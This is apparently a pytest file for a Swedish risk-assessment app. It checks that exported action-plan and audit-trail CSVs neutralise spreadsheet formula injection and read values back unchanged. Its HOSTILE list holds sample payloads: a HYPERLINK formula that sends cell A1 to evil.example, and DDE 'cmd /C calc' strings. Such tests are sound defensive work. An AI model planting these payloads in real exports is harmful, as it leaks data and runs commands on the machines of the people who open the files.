"""Formula injection (OWASP "CSV Injection"): no cell of a CSV the tool writes starts a formula in a
spreadsheet, and the tool's own reader gets every value back unchanged."""
from __future__ import annotations

import csv
import io
import json

import pytest

from assessments import csvfile, exchange
from tests.test_risks import KOMMUN, add_risk, draft_id, manual_risk  # noqa: F401 (draft_id is a fixture)

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"Klicka")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "'redan citerad", "=1;=2"]


def raw_rows(text: str) -> list[list[str]]:
    """What a spreadsheet sees: the cells exactly as written."""
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def starts_a_formula(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_action_plan_cells_never_start_a_formula_and_round_trip(app, client, auth, draft_id):
    auth.login(f"kommunikator@{KOMMUN}")
    add_risk(client, draft_id, title="=IMPORTXML(A1)")
    risk = manual_risk(app, draft_id, "=IMPORTXML(A1)")
    for title in HOSTILE:
        response = client.post(f"/assessments/{draft_id}/measures", data={
            "title": title, "description": "-sänk lagringstiden", "owner": "@kommunikation",
            "status": "planned", "due_date": "2027-01-31", "risks": [str(risk.id)]})
        assert response.status_code == 302, title
    text = client.get(f"/assessments/{draft_id}/action-plan.csv").get_data(as_text=True)

    cells = [cell for row in raw_rows(text) for cell in row]
    assert not [cell for cell in cells if starts_a_formula(cell)]
    assert f"'{HOSTILE[0]}" in cells and "'-sänk lagringstiden" in cells and "''redan citerad" in cells

    ours = [row for row in csvfile.read_rows(text)[1:] if row[2] == "@kommunikation"]
    assert sorted(row[0] for row in ours) == sorted(HOSTILE)
    assert {row[1] for row in ours} == {"-sänk lagringstiden"}
    assert all(row[5].endswith("=IMPORTXML(A1)") for row in ours)


def test_audit_trail_csv_neutralises_every_column_and_round_trips():
    events = [{"seq": 1, "time": "2026-11-29T10:00:00.000000+00:00", "action": "comment_added",
               "actor": "=cmd|' /C calc'!A0@example.se", "actor_id": -1, "details": {"body": "=1+1"},
               "prev_hash": "0" * 64, "hash": "+" + "a" * 63}]
    text = exchange.audit_trail_csv(events).decode("utf-8")
    assert not [cell for row in raw_rows(text) for cell in row if starts_a_formula(cell)]
    header, row = csvfile.read_rows(text)
    assert header == list(exchange.AUDIT_COLUMNS)
    assert row == ["1", events[0]["time"], "comment_added", events[0]["actor"], "-1", '{"body":"=1+1"}',
                   "0" * 64, "+" + "a" * 63]
    assert json.loads(row[5]) == events[0]["details"]


@pytest.mark.parametrize("value", ["=A1", "+A1", "-A1", "@A1", "\tA1", "\rA1", "'A1", "''A1", "A=1", "", "–1"])
def test_every_value_round_trips(value):
    written = csvfile.write_rows([[value, "x"]])
    assert not starts_a_formula(raw_rows(written)[0][0])
    assert csvfile.read_rows(written) == [[value, "x"]]
